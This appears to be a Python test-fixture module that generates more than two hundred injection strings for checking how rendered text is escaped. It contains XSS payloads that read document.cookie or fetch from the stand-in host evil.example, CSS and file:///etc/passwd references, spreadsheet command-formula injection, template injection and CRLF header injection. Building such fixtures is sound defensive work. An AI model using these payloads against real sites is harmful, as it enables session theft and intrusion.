"""Two hundred texts that would do something if they were not taken as text."""

from __future__ import annotations

from itertools import product

TAGS = (
    "script",
    "img",
    "svg",
    "iframe",
    "link",
    "style",
    "object",
    "embed",
    "base",
    "meta",
    "body",
    "form",
    "math",
    "template",
)
DEEDS = ("alert(1)", "fetch('http://evil.example/')", "document.cookie", "this.print()")
URLS = (
    "http://evil.example/x",
    "https://evil.example/x",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "//evil.example/x",
)

_CALLED = [f"<{tag} onload={deed}>" for tag, deed in product(TAGS, DEEDS)]
_FETCHED = [f'<{tag} src="{url}" href="{url}">' for tag, url in product(TAGS, URLS)]
_BROKEN_OUT = [
    f"{before}<script>{deed}</script>"
    for before, deed in product(('">', "'>", "</td>", "</style>", "</title>", "-->", "]]>", "</textarea>"), DEEDS)
]
_STYLED = [
    f"{before}{rule}"
    for before, rule in product(
        ("", "</style><style>", "*/ "),
        ("@import url(http://evil.example/);", "body{background:url(file:///etc/passwd)}", "expression(alert(1))"),
    )
]
_ODD = [
    "javascript:alert(1)",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "\u202eevil\u202c",
    "\u2066a\u2069",
    "=cmd|' /C calc'!A0",
    "{{7*7}}",
    "${7*7}",
    "{% include 'x' %}",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "%0d%0aSet-Cookie:x",
    "\\u003cscript",
    "</div></body></html>",
    "<a href=javascript:alert(1)>",
    "<td colspan=99>",
    "<h1>",
    "&",
    "<",
    ">",
    '"',
    "'",
    "<<>>",
    "<svg><use href=http://evil.example/#x>",
    "content: url(http://evil.example/)",
    "string-set: foot 'x'",
    "<p style=background:url(http://evil.example/)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<select onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
]

PAYLOADS = tuple(_CALLED + _FETCHED + _BROKEN_OUT + _STYLED + _ODD)
assert len(PAYLOADS) >= 200
